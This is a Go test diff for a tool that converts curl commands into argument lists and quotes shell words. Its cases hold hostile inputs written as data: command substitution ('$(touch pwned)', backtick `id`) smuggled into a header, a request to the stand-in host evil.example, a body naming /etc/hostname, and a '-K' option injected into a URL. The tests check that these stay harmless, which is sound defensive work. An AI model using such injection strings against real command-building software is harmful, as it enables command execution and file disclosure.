@@ -19,17 +19,25 @@ func TestCurlCommand(t *testing.T) {
 		"another host": {
 			`curl https://evil.example/v1/x -H 'X-A: $(touch pwned) '\''b' -d $'{"text":"it\'s \x60id\x60 $HOME\\n"}'`,
 			[]string{
-				"-i", "-X", "POST", "https://evil.example/v1/x", "-H", "Authorization: Bearer the key",
-				"-H", "Content-Type: application/x-www-form-urlencoded", "-H", "X-A: $(touch pwned) 'b", "--data-binary", `{"text":"it's ` + "`id`" + ` $HOME\n"}`,
+				"-g", "-i", "-X", "POST", "https://evil.example/v1/x",
+				"-H", "Content-Type: application/x-www-form-urlencoded", "-H", "X-A: $(touch pwned) 'b", "--data-raw", `{"text":"it's ` + "`id`" + ` $HOME\n"}`,
 			},
 		},
 		"a password": {
 			`curl https://user:secret99@api.klyra.live/v1/x -I`,
-			[]string{"-I", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key"},
+			[]string{"-g", "-I", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key"},
+		},
+		"a body that names a file": {
+			"curl https://api.klyra.live/v1/x --data-raw @/etc/hostname -H 'Content-Type: text/plain'",
+			[]string{"-g", "-i", "-X", "POST", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: text/plain", "--data-raw", "@/etc/hostname"},
+		},
+		"an option for an address": {
+			`{"request":{"method":"GET","url":"-K/v1/x://a.b/c","headers":[{"name":"A","value":"b"}]}}`,
+			[]string{"-g", "-i", "-X", "GET", "--url", "-K/v1/x://a.b/c", "-H", "A: b"},
 		},
 		"a file": {
 			`curl -X PUT https://api.klyra.live/v1/x --data-binary @a.png -H 'Content-Type: image/png'`,
-			[]string{"-i", "-X", "PUT", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: image/png", "--data-binary", "@BODY"},
+			[]string{"-g", "-i", "-X", "PUT", "https://api.klyra.live/v1/x", "-H", "Authorization: Bearer the key", "-H", "Content-Type: image/png", "--data-binary", "@BODY"},
 		},
 	} {
 		command := Prepare(asked(t, api, c.text), "").Command
@@ -42,6 +50,17 @@ func TestCurlCommand(t *testing.T) {
 		}
 		if len(command.Title) > 60 {
 			t.Errorf("%q is too long for a title", command.Title)
+		}
+	}
+}
+
+func TestShellQuoted(t *testing.T) {
+	for word, want := range map[string]string{
+		"": "''", "a": "a", "https://h:1/a.b_c-d": "https://h:1/a.b_c-d", "a b": "'a b'", "it's": `'it'\''s'`, "$HOME": "'$HOME'",
+		"~": "'~'", "a=b": "'a=b'", "{1,2}": "'{1,2}'", "a*": "'a*'", "é": "'é'", "a\nb": "'a\nb'", "a;b": "'a;b'", "#": "'#'",
+	} {
+		if got := ShellQuoted(word); got != want {
+			t.Errorf("%q: %s, want %s", word, got, want)
 		}
 	}
 }
